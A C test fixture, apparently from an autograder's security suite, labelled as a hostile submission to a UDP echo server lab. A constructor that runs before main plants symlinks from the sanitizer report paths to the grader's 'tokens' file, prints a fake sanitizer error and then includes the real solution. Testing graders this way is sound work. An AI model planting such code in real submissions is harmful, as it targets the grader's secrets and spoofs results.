/* hostile: Leaves links where a sanitizer would leave its reports, to where the
       judges take their turns, and then a report on stderr.
   lab: 13-udp-echo-server
   earns: 18
   verdict: not-reached
   must-not: a judge that reads from there what others then wait for
*/
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void attack(void) __attribute__((constructor));

static void attack(void)
{
    const char *home = getenv("HOME");
    const char *end = home == NULL ? NULL : strstr(home, "/work/");

    for (int pid = 1; pid < 20 && end != NULL; pid++) {
        char path[4300], tokens[4300];

        snprintf(path, sizeof path, "%s/.sanitizer.%d", home, pid);
        snprintf(tokens, sizeof tokens, "%.*s/tokens", (int)(end - home), home);
        (void)!symlink(tokens, path);
    }
    fputs("nowhere.c:0:0: runtime error: none\n", stderr);
}

#include "../../../../../solutions/13-udp-echo-server/udp_echo_server.c"
